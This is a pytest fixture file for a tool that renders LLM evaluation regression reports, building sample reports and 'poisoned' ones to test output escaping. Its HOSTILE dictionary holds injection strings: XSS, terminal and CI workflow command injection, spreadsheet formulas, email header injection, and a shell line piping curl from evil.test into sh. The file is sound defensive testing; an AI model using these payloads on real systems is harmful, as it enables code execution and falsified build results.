"""Reports to render: a regression, a pass, a first run, one nobody can judge, and poisoned ones."""

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import settings

from pytest_llm_telemetry.core.baseline import PastRun
from pytest_llm_telemetry.core.metrics import Summary
from pytest_llm_telemetry.core.report import BaselineFacts, Report, SuiteReport
from pytest_llm_telemetry.core.samples import Attempt, Call, CaseSamples
from pytest_llm_telemetry.core.verdict import CaseChange, Check, Problem, Verdict, VerdictStatus

# A busy machine is not a slow program: no test of ours is timed.
settings.register_profile("patient", deadline=None)
settings.load_profile("patient")

RUN = "2026-11-23T11-20-04Z-7c1e"
SHARED = Path(__file__).parents[2].parent / "shared" / "data" / "hostile" / "strings.json"

# One of each class that a sink may fall for, written for this project.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover='alert(1)",
    "close_all": "</td></tr></table></details></script></style></svg><h1>owned</h1>",
    "comment": "--><!-- hidden",
    "entity": "&lt;b&gt; &#x3c;",
    "markdown": "[passed](https://evil.test) ![x](https://evil.test/p) **b** _i_ `c` ~s~",
    "table": "a | b | **PASS** |\n|---|---|",
    "fence": "```\n# Approved\n``````",
    "heading": "\n# QUALITY GATE PASSED\n- [x] ok\n1. one\n> quote",
    "mention": "@everyone @org/team Fixes #1 org/repo#2 GH-3 https://evil.test www.evil.test a@b.test",
    "slack": "<!channel> <@U012AB3CD> <https://evil.test|Approve> *b* @here :tada:",
    "terminal": "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;https://evil.test\x1b\\x\x9b2J\x08\x7f",
    "carriage": "FAILED\rPASSED",
    "bidi": "\u202egnp.exe\u202c \u2066PASS\u2069 \u200b\ufeff",
    "zalgo": "a" + "\u0301" * 200,
    "surrogate": "a\ud83dz \udc00",
    "noncharacter": "\ufffe\uffff\x00\x01\x1f",
    "wide": "日本語のテスト" * 20,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
    "spreadsheet": "=cmd|'/c calc'!A1",
    "workflow": "::error file=a.py::fake\n::set-env name=PATH::/evil",
    "runner": "##vso[task.setvariable variable=x]y ##[error]z ##teamcity[buildProblem]",
    "percent": "%0A::stop-commands::x %s {0.__class__} {{7*7}} ${{ secrets.X }}",
    "log": 'x\r\n{"event":"query_success"}\x0b\x0c\x85\u2028\u2029y',
    "xml": "]]><failure/><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "openmetrics": 'x"} 1\nfake_metric{a="b"} 2\n# EOF\\',
    "header": "Report\r\nBcc: victim@evil.test\r\n\r\nbody\n.\nQUIT\n",
    "shell": "'; curl evil.test | sh; # $(touch /tmp/x) `id`",
    "long_word": "x" * 20_000,
    "long_text": "so it goes " * 5_000,
    "empty": "",
}


def hostile_strings() -> dict[str, str]:
    """Our own hostile texts, and the shared ones where they are."""
    found = dict(HOSTILE)
    if SHARED.exists():
        shared = json.loads(SHARED.read_text(encoding="utf-8"))
        found |= {f"shared_{name}": text for name, text in shared.items()}
    return found


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """Run a test that asks for `hostile_text` once a hostile string, the shared ones if there."""
    if "hostile_text" in metafunc.fixturenames:
        found = hostile_strings()
        metafunc.parametrize("hostile_text", list(found.values()), ids=list(found))


def cases(count: int = 120, *, passes: int = 3) -> tuple[CaseSamples, ...]:
    """Cases of three repeats each, of one model; `passes` of the three passed."""
    return tuple(
        CaseSamples(
            case_id=f"case-{number:03d}",
            calls=tuple(
                Call(
                    order=number * 3 + repeat,
                    attempt=repeat + 1,
                    latency_ms=900.0 + 7 * number + repeat,
                    cost_usd=0.0009,
                    input_tokens=120,
                    output_tokens=80,
                    model="gpt-4o-mini",
                )
                for repeat in range(3)
            ),
            attempts=tuple(
                Attempt(
                    number=repeat + 1,
                    passed=repeat < passes,
                    score=float(repeat < passes),
                    notes=() if repeat < passes else ('contains "14 days": no',),
                )
                for repeat in range(3)
            ),
            tags=("refund",) if number % 2 else (),
            where=f"golden/support.jsonl:{number + 1}",
        )
        for number in range(count)
    )


SUMMARY = Summary(
    suite="support",
    run_id=RUN,
    cases=cases(passes=2),
    metrics={
        "queries": 360.0,
        "pass_rate": 0.886,
        "score": 0.91,
        "error_rate": 0.006,
        "avg_latency_ms": 1240.0,
        "p95_latency_ms": 4350.0,
        "cost_per_query_usd": 0.0009,
        "total_cost_usd": 0.31,
    },
    unknown={},
    repeats=3,
    models=("gpt-4o-mini",),
)
BASELINE = BaselineFacts(
    run_id="2026-11-17T09-00-00Z-1a2b",
    at="2026-11-17T09:00:00.000Z",
    by="ana",
    why="cost review #88",
    commit="3f2c1abdeadbeef",
    branch="main",
    age="6 days ago",
    cases=120,
)
WORSE = tuple(
    CaseChange(
        case_id=name,
        before="3/3",
        now=now,
        contribution=1 - place / 10,
        reason=reason,
        where=f"golden/support.jsonl:{14 + place}",
    )
    for place, (name, now, reason) in enumerate(
        [
            ("refund-eu-014", "0/3", 'contains "14 days": "You can return it within 30 days"'),
            ("refund-eu-015", "0/3", 'contains "14 days": "Refunds are possible for 30 days"'),
            ("lang-de-003", "1/3", 'matches "^(Hallo|Guten": "Hello! How can I help you?"'),
        ]
    )
)
CHECKS = (
    Check(
        metric="pass_rate",
        kind="relative",
        status="fail",
        baseline=0.942,
        now=0.886,
        change=-0.056,
        interval=(-0.08, -0.03),
        limit=0.05,
        p_value=0.0004,
        reason="7 of 120 cases got worse, 1 got better",
        cases=WORSE,
        cases_worse=7,
        cases_better=1,
    ),
    Check(metric="pass_rate", kind="absolute", status="pass", now=0.886, limit=0.85),
    Check(
        metric="error_rate",
        kind="relative",
        status="inconclusive",
        baseline=0.003,
        now=0.006,
        change=0.003,
        interval=(-0.004, 0.012),
        limit=0.01,
        reason="cannot exclude +1 pp",
        settle="2 more repeats would settle it",
    ),
    Check(
        metric="avg_latency_ms",
        kind="relative",
        status="fail",
        binding=False,
        baseline=1210.0,
        now=1240.0,
        change=0.02,
        interval=(-0.04, 0.09),
        limit=0.2,
        reason="advisory without controls",
    ),
    Check(
        metric="p95_latency_ms",
        kind="relative",
        status="fail",
        baseline=2900.0,
        now=4350.0,
        change=0.5,
        interval=(0.31, 0.72),
        limit=0.2,
        reason="11 of the 18 slow calls are tagged long-context (baseline: 2 of 18)",
        cases=WORSE[:1],
        cases_worse=11,
    ),
    Check(
        metric="cost_per_query_usd",
        kind="relative",
        status="pass",
        baseline=0.0009,
        now=0.000904,
        change=0.004,
        interval=(0.001, 0.007),
        limit=0.02,
    ),
)
ACCEPT = 'llm-telemetry baseline accept 7c1e --case refund-eu-014 --why "..."'


def build(
    status: VerdictStatus = "fail",
    *,
    checks: tuple[Check, ...] = CHECKS,
    baseline: BaselineFacts | None = BASELINE,
    problems: tuple[Problem, ...] = (),
    notes: tuple[str, ...] = (),
) -> Report:
    """A report of one suite, a regression unless told otherwise."""
    verdict = Verdict(
        suite="support",
        status=status,
        checks=checks,
        problems=problems,
        notes=notes,
        baseline_used=baseline is not None,
    )
    suite = SuiteReport(
        summary=SUMMARY,
        verdict=verdict,
        baseline=baseline,
        golden="golden/support.jsonl",
        before={case.case_id: case for case in cases()} if baseline else {},
        history=(
            PastRun(run_id="r1", at="2026-11-01T00:00:00.000Z", metrics={"pass_rate": 0.93}),
            PastRun(run_id="r2", at="2026-11-17T09:00:00.000Z", metrics={"pass_rate": 0.942}),
        ),
    )
    return Report(
        run_id=RUN,
        suites=(suite,),
        status=status,
        exit_status=verdict.exit_status,
        started="2026-11-23T11:20:04.000Z",
        finished="2026-11-23T11:21:46.000Z",
        duration_s=102.0,
        commit="9ab12cd0123456",
        branch="main",
        run_dir=f".llm-telemetry/runs/{RUN}",
        judge_again="llm-telemetry gate 7c1e",
        next_commands=(ACCEPT,),
    )


def poison(text: str) -> Report:
    """A regression in which every text that a stranger may write is `text`."""
    change = CaseChange(
        case_id=text, before=text, now=text, contribution=1.0, reason=text, where=f"{text}:1"
    )
    check = replace(CHECKS[0], metric=text, scope=text, reason=text, settle=text)
    checks = (
        replace(check, metric="pass_rate", scope="", cases=(change, *WORSE)),
        replace(check, cases=(change,)),
        replace(check, status="inconclusive"),
    )
    problem = Problem(what=text, where=text, remedy=text)
    base = replace(BASELINE, run_id=text, at=text, by=text, why=text, commit=text, branch=text)
    sample = replace(
        cases(1, passes=0)[0],
        case_id=text,
        tags=(text,),
        where=text,
        attempts=(Attempt(number=1, passed=False, score=0.0, notes=(text,), answer=text),),
    )
    error = replace(sample.calls[0], error_type=text)
    summary = replace(
        SUMMARY,
        suite=text,
        cases=(replace(sample, calls=(*sample.calls, error)),),
        missing=(text,),
        models=(text,),
        golden_hash=text,
        price_table_version=text,
        metrics={**SUMMARY.metrics, "total_cost_usd": None},
        unknown={"cost_per_query_usd": 1},
    )
    verdict = Verdict(suite=text, status="fail", checks=checks, problems=(problem,), notes=(text,))
    suite = SuiteReport(
        summary=summary,
        verdict=verdict,
        baseline=base,
        golden=text,
        before={text: replace(sample, attempts=(Attempt(number=1, passed=True, score=1.0),))},
        history=(PastRun(run_id=text, at=text, metrics={"pass_rate": 0.5}),),
        answers={text: f"{text} as it was"},
    )
    return replace(
        build(),
        run_id=text,
        suites=(suite,),
        commit=text,
        branch=text,
        started=text,
        finished=text,
        run_dir=text,
        problems=(problem,),
        notes=(text,),
        skipped_lines={text: 3},
        judge_again=f"llm-telemetry gate {text}",
        next_commands=(f"llm-telemetry baseline accept {text}",),
    )


@pytest.fixture(scope="session")
def make() -> Callable[..., Report]:
    """Build a report of one suite: `make(status, checks=, baseline=, problems=, notes=)`."""
    return build


@pytest.fixture(scope="session")
def poisoned() -> Callable[[str], Report]:
    """Build a report in which every text is the given one."""
    return poison


@pytest.fixture(scope="session")
def hostile_texts() -> list[str]:
    """All hostile texts, for what is too slow to be done once for each."""
    return list(hostile_strings().values())


@pytest.fixture(scope="session")
def crowded() -> Callable[[int], Report]:
    """Build a failing report in which so many cases got worse, for long reasons."""

    def crowd(count: int) -> Report:
        changes = tuple(
            CaseChange(
                case_id=f"case-{number:05d}",
                before="3/3",
                now="0/3",
                contribution=1.0,
                reason="the answer says <b>thirty</b> & not fourteen | days " * 20,
                where=f"golden/support.jsonl:{number + 1}",
            )
            for number in range(count)
        )
        return build(checks=(replace(CHECKS[0], cases=changes, cases_worse=count), *CHECKS[1:]))

    return crowd


@pytest.fixture(scope="session")
def passing() -> Report:
    """A run in which every check passed and nothing is worth a note."""
    kept = tuple(replace(check, status="pass", binding=True, cases=()) for check in CHECKS)
    return build("pass", checks=kept)


@pytest.fixture(scope="session")
def first_run() -> Report:
    """A run without a baseline, judged by one absolute limit."""
    return replace(
        build("pass", checks=CHECKS[1:2], baseline=None),
        next_commands=('llm-telemetry baseline accept 7c1e --why "first baseline"',),
    )
